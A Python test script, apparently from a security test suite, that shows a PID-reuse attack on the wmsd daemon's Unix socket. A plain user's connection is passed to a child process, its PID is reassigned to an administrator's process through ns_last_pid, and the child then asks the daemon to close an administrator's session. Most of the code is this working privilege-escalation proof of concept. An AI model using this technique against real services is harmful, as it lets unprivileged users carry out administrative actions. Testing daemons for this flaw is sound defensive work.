"""The PID-reuse attack on wmsd's Unix socket, run as PID 1 of a private PID namespace
(`unshare --pid --fork --mount-proc`), where this script may choose the next PID through
/proc/sys/kernel/ns_last_pid.

A plain user connects to the agent, hands the connection to a child and exits; the
script then makes an administrator's process take the PID the plain user connected
with, and the child asks the agent, on the same connection, to close an administrator's
session. Prints one JSON object: whether the PID was really reused, the agent's answer,
and whether the administrator's session survived.

Usage: pid_reuse.py WMSD CONFIG SOCKET PLAIN_UID PLAIN_GID ADMIN_UID ADMIN_GID
"""

import json
import os
import socket
import subprocess
import sys
import time

wmsd, config, sock_path = sys.argv[1:4]
plain_uid, plain_gid, admin_uid, admin_gid = (int(a) for a in sys.argv[4:8])

# The plain user's side: connect, make one request, give the connection to a child and
# exit. The child waits for a line on stdin, then asks for the close on that connection.
CLIENT = r"""
import os, socket, sys

def exchange(s, request):
    s.sendall(request)
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(65536)
        if not chunk:
            return data
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    length = 0
    for line in head.split(b"\r\n")[1:]:
        k, _, v = line.partition(b":")
        if k.strip().lower() == b"content-length":
            length = int(v.strip())
    while len(body) < length:
        chunk = s.recv(65536)
        if not chunk:
            break
        body += chunk
    return head + b"\r\n\r\n" + body

s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(sys.argv[1])
exchange(s, b"GET /v1/sessions HTTP/1.1\r\nHost: wmsd\r\n\r\n")
if os.fork() != 0:
    os._exit(0)
sys.stdin.readline()
body = sys.argv[2].encode()
reply = exchange(s, b"POST /v1/actions HTTP/1.1\r\nHost: wmsd\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
sys.stdout.write(reply.decode(errors="replace"))
sys.stdout.flush()
"""


def as_user(uid, gid, argv, **kw):
    return subprocess.Popen(
        ["setpriv", f"--reuid={uid}", f"--regid={gid}", "--init-groups"] + argv, **kw
    )


def alive(pid):
    try:
        os.kill(pid, 0)
        return True
    except ProcessLookupError:
        return False


out = {"reused": False}
procs = []
try:
    env = dict(os.environ, WMS_CONFIG=config)
    agent = subprocess.Popen([wmsd], env=env, stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    procs.append(agent)
    for _ in range(400):
        try:
            socket.socket(socket.AF_UNIX).connect(sock_path)
            break
        except OSError:
            time.sleep(0.05)

    # An administrator's login session: a new audit session (loginuid), then the user.
    target = subprocess.Popen(
        ["sh", "-c", f"echo {admin_uid} > /proc/self/loginuid && exec setpriv --reuid={admin_uid} --regid={admin_gid} --init-groups sleep 600"]
    )
    procs.append(target)
    for _ in range(200):
        try:
            with open(f"/proc/{target.pid}/comm") as f:
                if f.read().strip() == "sleep":
                    break
        except OSError:
            pass
        time.sleep(0.02)
    with open(f"/proc/{target.pid}/sessionid") as f:
        target_session = int(f.read())
    out["target_session"] = target_session
    request = json.dumps({"verb": "close", "sessionIds": [target_session]})

    client = as_user(
        plain_uid, plain_gid, ["/usr/bin/python3", "-c", CLIENT, sock_path, request],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE,
    )
    connected_pid = client.pid
    client.wait()  # the process that connected is gone, and reaped: its PID is free
    out["connected_pid"] = connected_pid

    # An administrator's process takes that PID.
    for _ in range(200):
        with open("/proc/sys/kernel/ns_last_pid", "w") as f:
            f.write(str(connected_pid - 1))
        squatter = as_user(admin_uid, admin_gid, ["sleep", "600"])
        procs.append(squatter)
        if squatter.pid == connected_pid:
            out["reused"] = True
            break
        squatter.kill()
        squatter.wait()
    # Let setpriv become sleep, with the administrator's groups.
    for _ in range(200):
        try:
            with open(f"/proc/{connected_pid}/comm") as f:
                if f.read().strip() == "sleep":
                    break
        except OSError:
            pass
        time.sleep(0.02)

    client.stdin.write(b"go\n")
    client.stdin.flush()
    reply = client.stdout.read().decode(errors="replace")
    status, _, rest = reply.partition("\r\n")
    out["status"] = status
    out["body"] = rest.partition("\r\n\r\n")[2]
    time.sleep(0.5)
    out["target_alive"] = alive(target.pid)
finally:
    for p in procs:
        try:
            p.kill()
        except ProcessLookupError:
            pass
    print(json.dumps(out), flush=True)
